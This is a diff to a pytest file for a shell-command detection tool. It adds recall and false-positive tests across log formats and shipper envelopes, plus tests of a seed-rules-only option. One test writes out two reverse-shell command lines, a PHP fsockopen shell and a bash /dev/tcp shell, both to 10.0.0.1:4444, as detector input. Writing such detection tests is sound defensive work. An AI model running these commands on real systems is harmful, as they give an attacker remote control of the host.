@@ -16,17 +16,19 @@ import tempfile
 import time
 from collections import defaultdict
 from pathlib import Path
+from typing import Any
 
 import msgspec
 import pytest
 
-from conftest import PATTERNS, ROOT, rule_ids
+from conftest import PATTERNS, PHP_FSOCKOPEN, ROOT, rule_ids
 from corpus import benign, lookalikes
 from corpus.payloads import FAMILIES, execs, payloads
-from format_samples import WRITERS
+from format_samples import WRITERS, Exec
+from test_envelopes import wrap
 from test_formats import run_lines
 from test_shellsieve_rules import PROCESS_FORMATS
-from shellsieve.cli import build
+from shellsieve.cli import build, main
 from shellsieve.compile.ruleset import Ruleset
 
 OWN = PATTERNS / "shellsieve"
@@ -38,6 +40,9 @@ INTERP = "4f5d7ec0-54c3-4247-b03f-43373469e0d7"
 RUNTIME = "53dd4630-4ac5-4826-9f76-9267cae59202"
 STAGED = "8e14abff-6f78-4db3-a87e-a7a5b6e9b8b0"
 RECALL_FORMAT, RECALL_FAMILY, BENIGN_RATE = 0.95, 0.8, 0.001
+# a shipper envelope per kind of carried line: text, auditd records, Sysmon XML in syslog, JSON in a string
+BENIGN_FORMATS = ("cmdline", "wazuh-cmdline", "sysmon-linux-json")  # no parent, or argv unquoted
+ENVELOPED = [("vector-file", "cmdline"), ("fluentbit-tail", "auditd"), ("docker", "sysmon-syslog"), ("cri", "ecs")]
 
 
 @pytest.fixture(scope="module")
@@ -53,12 +58,13 @@ def own() -> Ruleset:
     return ruleset
 
 
-def recall(ruleset: Ruleset, fmt: str) -> tuple[float, dict[str, float], list[str]]:
-    """Share of payloads with an alerted line in `fmt`: overall, per family, and the missed command lines."""
+def recall(ruleset: Ruleset, fmt: str, shape: str | None = None) -> tuple[float, dict[str, float], list[str]]:
+    """Share of payloads with an alerted line in `fmt` (each line in a shipper's envelope `shape`, if given):
+    overall, per family, and the missed command lines."""
     lines, owner = [], []
     cases = execs()
     for k, (_, ex) in enumerate(cases):
-        out = WRITERS[fmt](ex)
+        out = WRITERS[fmt](ex) if shape is None else wrap(shape, WRITERS[fmt](ex))
         lines += out
         owner += [k] * len(out)
     docs, _ = run_lines(ruleset, lines)
@@ -70,6 +76,15 @@ def recall(ruleset: Ruleset, fmt: str) -> tuple[float, dict[str, float], list[st
         fam[pl.family][1] += 1
     missed = [ex.command_line for k, (_, ex) in enumerate(cases) if k not in hit]
     return len(hit) / len(cases), {f: a / b for f, (a, b) in fam.items()}, missed
+
+
+def _as_exec(event: dict[str, Any]) -> Exec:
+    """A benign ECS process start (tests/corpus/benign.py) as an `Exec`, to render it in other formats."""
+    proc, parent = event["process"], event["process"].get("parent")
+    up = None if parent is None else Exec(tuple(parent["args"]), parent["executable"], pid=4000, ppid=1,
+                                           serial=1000, time=1777800000.0)
+    return Exec(tuple(proc["args"]), proc["executable"], uid=int(event["user"]["id"]), user=event["user"]["name"],
+                cwd=proc["working_directory"], parent=up)
 
 
 class TestCorpus:
@@ -89,7 +104,15 @@ class TestTable:
     @pytest.mark.parametrize("fmt", PROCESS_FORMATS)
     def test_recall_per_format_and_family(self, shipped: Ruleset, fmt: str) -> None:
         overall, fams, missed = recall(shipped, fmt)
-        print(f"\n{fmt:14s} recall {overall:.3f}  " + " ".join(f"{f}={v:.2f}" for f, v in sorted(fams.items())))
+        print(f"\n{fmt:17s} recall {overall:.3f}  " + " ".join(f"{f}={v:.2f}" for f, v in sorted(fams.items())))
+        assert overall >= RECALL_FORMAT, missed[:10]
+        assert min(fams.values()) >= RECALL_FAMILY, {f: v for f, v in fams.items() if v < RECALL_FAMILY}
+
+    @pytest.mark.parametrize("shape,fmt", ENVELOPED, ids=[f"{s}-{f}" for s, f in ENVELOPED])
+    def test_recall_in_shipper_envelopes(self, shipped: Ruleset, shape: str, fmt: str) -> None:
+        """The lines of a format carried in a shipper's envelope (tests/test_envelopes.py SHAPES) alert as bare."""
+        overall, fams, missed = recall(shipped, fmt, shape)
+        print(f"\n{shape + ' ' + fmt:28s} recall {overall:.3f}")
         assert overall >= RECALL_FORMAT, missed[:10]
         assert min(fams.values()) >= RECALL_FAMILY, {f: v for f, v in fams.items() if v < RECALL_FAMILY}
 
@@ -102,6 +125,22 @@ class TestTable:
         rate = len(noisy) / len(evs)
         print(f"\nown rules: benign {len(noisy)}/{len(evs)} = {rate:.4%}")
         assert rate <= BENIGN_RATE, noisy
+
+    @pytest.mark.parametrize("fmt", BENIGN_FORMATS)
+    def test_benign_rate_of_own_rules_per_format(self, shipped: Ruleset, fmt: str) -> None:
+        """The benign corpus and the look-alikes rendered as a command log, a Wazuh command document and Sysmon
+        for Linux (argv unquoted): the own rules stay within 0.1% there too, with no parent (command logs) or
+        with the quoting lost."""
+        exs = [_as_exec(e) for e in benign.events() + lookalikes.events()]
+        lines, owner = [], []
+        for k, ex in enumerate(exs):
+            out = WRITERS[fmt](ex)
+            lines += out
+            owner += [k] * len(out)
+        docs, _ = run_lines(shipped, lines)
+        noisy = sorted({exs[owner[i]].command_line for i, d in enumerate(docs) if set(rule_ids(d)) & OWN_IDS})
+        print(f"\n{fmt:17s} own rules: benign {len(noisy)}/{len(exs)}")
+        assert len(noisy) / len(exs) <= BENIGN_RATE, noisy
 
     def test_shellsieve_run_agrees(self) -> None:
         """`shellsieve run` (no --rules: the shipped rules) over the ECS payloads alerts as the in-process table."""
@@ -117,6 +156,44 @@ class TestTable:
         hit = {k for (k, _), d in zip(lines, docs, strict=True) if rule_ids(d)}
         print(f"\nshellsieve run, ecs: recall {len(hit) / len(execs()):.3f}")
         assert len(hit) / len(execs()) >= RECALL_FORMAT
+
+
+# -- item 4: the own ruleset is the default; --seed-rules-only runs the seed rules alone ------------------
+
+SEED_ONLY_SUBCOMMANDS = [["run"], ["serve", "--listen", "tcp://127.0.0.1:0"], ["check"], ["rules"], ["explain"]]
+
+
+def _listed(capsys: pytest.CaptureFixture[str], *extra: str) -> set[str]:
+    assert main(["rules", "--json", *extra]) == 0
+    return {msgspec.json.decode(x)["id"] for x in capsys.readouterr().out.splitlines()}
+
+
+class TestSeedRulesOnly:
+    def test_the_flag_leaves_the_own_rules_out(self, capsys: pytest.CaptureFixture[str]) -> None:
+        """`rules` with no --rules lists the seed rules and the own ruleset; --seed-rules-only the seed rules."""
+        default, seeds = _listed(capsys), _listed(capsys, "--seed-rules-only")
+        assert OWN_IDS <= default and not OWN_IDS & seeds
+        assert seeds == default - OWN_IDS and PHP_FSOCKOPEN in seeds
+
+    @pytest.mark.parametrize("argv", SEED_ONLY_SUBCOMMANDS, ids=[a[0] for a in SEED_ONLY_SUBCOMMANDS])
+    def test_refused_with_rules(self, capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
+        """Every subcommand taking --rules takes the flag, and refuses it beside --rules (exit 2, naming both)."""
+        with pytest.raises(SystemExit) as exc:
+            main([*argv, "--seed-rules-only", "--rules", str(OWN)])
+        assert exc.value.code == 2
+        err = capsys.readouterr().err
+        assert "--seed-rules-only" in err and "--rules" in err
+
+    def test_run_with_the_flag_alerts_seed_payloads_only(self) -> None:
+        """`shellsieve run --seed-rules-only`: the seed's PHP shell alerts, a /dev/tcp shell (own rules only)
+        does not."""
+        lines = (b"php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"sh <&3\");'\n"
+                 b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
+        argv = [sys.executable, "-m", "shellsieve", "run", "--seed-rules-only", "--stats-interval", "0"]
+        proc = subprocess.run(argv, input=lines, capture_output=True, timeout=120, cwd=ROOT, check=False)
+        assert proc.returncode == 0, proc.stderr[-2000:]
+        php, dev_tcp = [rule_ids(msgspec.json.decode(x)) for x in proc.stdout.splitlines()]
+        assert PHP_FSOCKOPEN in php and not set(php) & OWN_IDS and dev_tcp == []
 
 
 # -- each rule: positive and negative command lines, as a command log holds them ----------------------------
